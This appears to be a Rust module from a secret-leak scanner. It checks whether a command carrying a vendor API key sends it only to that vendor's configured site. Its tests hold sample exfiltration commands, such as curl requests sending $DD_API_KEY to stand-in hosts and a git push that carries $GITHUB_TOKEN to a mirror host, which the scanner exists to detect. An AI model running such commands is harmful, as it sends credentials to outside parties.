//! A vendor's key sent to the vendor's configured site written through a placeholder or a local
//! alias (round 46b, sets46b).
//!
//! [`super::vendor_routes`] already lets a key go to a host built from a variable named for the
//! key's own vendor (`https://api.$DATADOG_DOMAIN/...`). Region-aware vendor docs write the same
//! address two more ways:
//!
//! - **A placeholder** the reader fills in: `https://api.<DD_SITE>/api/v1/validate`,
//!   `https://{DD_SITE}/...`. The placeholder's name is named for a vendor the key is named for.
//! - **A local alias** of that variable: `site="${DD_SITE:?set DD_SITE first}"` (or
//!   `site="$DD_SITE"`) on an earlier line, then `https://api.${site}/...`. Every assignment of the
//!   alias in the file must be exactly such a reference (an optional `:?message` or a default that
//!   is not a host, or is one of the vendor's hosts); one literal assignment
//!   (`site=collector.example`) or a default host of a stranger keeps the finding.
//!
//! A short stem shared by several vendors (`DD` is Datadog's and DingTalk's) counts for every
//! vendor that claims it, as [`crate::scan::hosts::key_owns_host`] does. Every URL of the request
//! must be such an address or a host of one of the key's vendors. The vendor variable itself must
//! not be assigned by the file.

use crate::scan::hosts::{Vendor, belongs_to, vendors_of_key};

/// The vendor variable the request's address comes from, when every URL of `sink_text` is the
/// configured site of a vendor `key` is named for (see the module documentation).
pub(crate) fn own_site(key: &str, sink_text: &str, content: &str) -> Option<String> {
    let vendors: Vec<&Vendor> = vendors_of_key(key).collect();
    if vendors.is_empty() {
        return None;
    }
    let mut found = None;
    let mut from = 0;
    while let Some(i) = sink_text[from..].find("://").map(|i| i + from) {
        let auth = raw_authority(&sink_text[i + 3..]);
        // A key in the userinfo (`https://${GITHUB_TOKEN}@host/`) is no part of the host.
        let auth = auth.rsplit_once('@').map_or(auth, |(_, h)| h);
        from = i + 3;
        let names = names_in(auth);
        if names.is_empty() {
            let host = auth
                .rsplit('@')
                .next()
                .unwrap_or(auth)
                .split(':')
                .next()
                .unwrap_or("")
                .to_ascii_lowercase();
            if !vendors.iter().any(|v| belongs_to(v, &host)) {
                return None;
            }
            continue;
        }
        let mut own = None;
        for (name, placeholder) in names {
            let site = if placeholder {
                shares_vendor(&vendors, name).then(|| name.to_string())
            } else {
                site_variable(&vendors, name, content)
            };
            match site {
                Some(s) => own = Some(s),
                None => return None,
            }
        }
        found = own.or(found);
    }
    found
}

/// The authority as written: from after `://` to the first `/`, `?`, `#`, quote, space or line
/// end, keeping `${…}`, `<…>` and `{…}` placeholders whole.
fn raw_authority(rest: &str) -> &str {
    let b = rest.as_bytes();
    let mut depth = 0usize;
    let mut e = 0;
    while e < b.len() {
        match b[e] {
            b'{' | b'<' => depth += 1,
            b'}' | b'>' => depth = depth.saturating_sub(1),
            b'/' | b'?' | b'#' | b'"' | b'\'' | b'`' | b' ' | b'\t' | b'\n' | b'\r' | b'\\'
                if depth == 0 =>
            {
                break;
            }
            _ => {}
        }
        e += 1;
    }
    &rest[..e]
}

/// The names an authority takes its host from: `$NAME`, `${NAME…}` (a variable, `false`) and
/// `<NAME>`, `{NAME}` (a placeholder, `true`).
fn names_in(auth: &str) -> Vec<(&str, bool)> {
    let b = auth.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let (start, placeholder) = match b[i] {
            b'$' if b.get(i + 1) == Some(&b'{') => (i + 2, false),
            b'$' => (i + 1, false),
            b'<' | b'{' => (i + 1, true),
            _ => {
                i += 1;
                continue;
            }
        };
        let mut e = start;
        while e < b.len() && (b[e].is_ascii_alphanumeric() || b[e] == b'_') {
            e += 1;
        }
        if e > start && b[start].is_ascii_alphabetic() {
            out.push((&auth[start..e], placeholder));
        }
        i = e.max(i + 1);
    }
    out
}

/// Whether `name` is named for one of `vendors`.
fn shares_vendor(vendors: &[&Vendor], name: &str) -> bool {
    vendors_of_key(name).any(|w| vendors.iter().any(|v| std::ptr::eq(*v, w)))
}

/// The vendor variable behind variable `name`: itself when it is named for one of `vendors` and the
/// file never assigns it, else the one variable every assignment of `name` in `content` copies.
fn site_variable(vendors: &[&Vendor], name: &str, content: &str) -> Option<String> {
    if shares_vendor(vendors, name) {
        return (assignments(content, name).is_empty()).then(|| name.to_string());
    }
    let values = assignments(content, name);
    if values.is_empty() {
        return None;
    }
    let mut source: Option<&str> = None;
    for v in values {
        let (var, default) = reference(v)?;
        if !shares_vendor(vendors, var) || !assignments(content, var).is_empty() {
            return None;
        }
        if let Some(d) = default
            && d.contains('.')
            && !vendors
                .iter()
                .any(|w| belongs_to(w, &d.trim_matches(['"', '\'']).to_ascii_lowercase()))
        {
            return None;
        }
        if source.is_some_and(|s| s != var) {
            return None;
        }
        source = Some(var);
    }
    source.map(str::to_string)
}

/// The right-hand sides of every shell assignment of `name` in `content` (`name=…`,
/// `export name=…`, `local name=…`), each up to the end of its word.
fn assignments<'c>(content: &'c str, name: &str) -> Vec<&'c str> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(i) = content[from..].find(name).map(|i| i + from) {
        from = i + name.len();
        let before = content[..i].chars().next_back();
        if before.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '$' | '{' | '.')) {
            continue;
        }
        let rest = &content[i + name.len()..];
        if !rest.starts_with('=') || rest.starts_with("==") {
            continue;
        }
        out.push(word(&rest[1..]));
    }
    out
}

/// One shell word: a quoted string or a run of characters up to a space, `;` or line end.
fn word(s: &str) -> &str {
    let b = s.as_bytes();
    match b.first() {
        Some(&q @ (b'"' | b'\'')) => {
            let end = s[1..].find(q as char).map_or(s.len(), |e| e + 2);
            &s[..end]
        }
        _ => {
            let mut depth = 0usize;
            let mut e = 0;
            while e < b.len() {
                match b[e] {
                    b'{' => depth += 1,
                    b'}' => depth = depth.saturating_sub(1),
                    b' ' | b'\t' | b';' | b'\n' | b'\r' if depth == 0 => break,
                    _ => {}
                }
                e += 1;
            }
            &s[..e]
        }
    }
}

/// A value that only references one variable: `"$V"`, `$V`, `"${V}"`, `"${V:?message}"`,
/// `"${V:-default}"` (the default returned too).
fn reference(v: &str) -> Option<(&str, Option<&str>)> {
    let v = v.trim_matches(['"', '\'']);
    let inner = if let Some(r) = v.strip_prefix("${") {
        r.strip_suffix('}')?
    } else {
        let r = v.strip_prefix('$')?;
        return r
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_')
            .then_some((r, None));
    };
    let end = inner
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(inner.len());
    let (var, rest) = inner.split_at(end);
    if var.is_empty() {
        return None;
    }
    if rest.is_empty() || rest.starts_with(":?") || rest.starts_with('?') {
        return Some((var, None));
    }
    let default = rest.strip_prefix(":-").or_else(|| rest.strip_prefix('-'))?;
    Some((var, Some(default)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placeholders_and_aliases_of_the_vendor_site() {
        let sink = r#"curl -H "DD-API-KEY: $DD_API_KEY" "https://api.<DD_SITE>/api/v1/validate""#;
        assert_eq!(
            own_site("DD_API_KEY", sink, sink).as_deref(),
            Some("DD_SITE")
        );
        let content = "site=\"${DD_SITE:?set it}\"\ncurl -H \"DD-API-KEY: $DD_API_KEY\" \"https://api.${site}/v1\"\nsite=\"$DD_SITE\"\n";
        let sink = "curl -H \"DD-API-KEY: $DD_API_KEY\" \"https://api.${site}/v1\"";
        assert_eq!(
            own_site("DD_API_KEY", sink, content).as_deref(),
            Some("DD_SITE")
        );
    }

    #[test]
    fn strangers_keep_the_finding() {
        // The alias is given a literal host once.
        let content = "site=\"$DD_SITE\"\nsite=collector.example\n";
        let sink = "curl -H \"DD-API-KEY: $DD_API_KEY\" \"https://api.${site}/v1\"";
        assert_eq!(own_site("DD_API_KEY", sink, content), None);
        // The alias defaults to a stranger's host.
        let content = "site=\"${DD_SITE:-relay.example}\"\n";
        assert_eq!(own_site("DD_API_KEY", sink, content), None);
        // A placeholder named for nobody the key names.
        let sink = "curl -H \"X: $DD_API_KEY\" \"https://<COLLECTOR_HOST>/ingest\"";
        assert_eq!(own_site("DD_API_KEY", sink, sink), None);
        // The alias copies another vendor's variable.
        let content = "site=\"$OPENAI_BASE_HOST\"\n";
        let sink = "curl -H \"X: $DD_API_KEY\" \"https://${site}/v1\"";
        assert_eq!(own_site("DD_API_KEY", sink, content), None);
        // A second URL of the request goes to a stranger.
        let sink =
            "curl -H \"X: $DD_API_KEY\" \"https://api.<DD_SITE>/v1\" https://relay.example/x";
        assert_eq!(own_site("DD_API_KEY", sink, sink), None);
        // The key in the userinfo of a push URL to a stranger's host is no site variable.
        let sink = "git push --mirror \"https://${GITHUB_TOKEN}@git.mirror.example/x.git\"";
        assert_eq!(own_site("GITHUB_TOKEN", sink, sink), None);
        // A key named for no vendor.
        let sink = "curl -H \"X: $MY_TOKEN\" \"https://api.<DD_SITE>/v1\"";
        assert_eq!(own_site("MY_TOKEN", sink, sink), None);
    }

    #[test]
    fn references() {
        assert_eq!(reference("\"${DD_SITE:?msg}\""), Some(("DD_SITE", None)));
        assert_eq!(reference("$DD_SITE"), Some(("DD_SITE", None)));
        assert_eq!(
            reference("\"${DD_SITE:-datadoghq.com}\""),
            Some(("DD_SITE", Some("datadoghq.com")))
        );
        assert_eq!(reference("\"https://$DD_SITE\""), None);
        assert_eq!(reference("collector.example"), None);
    }
}
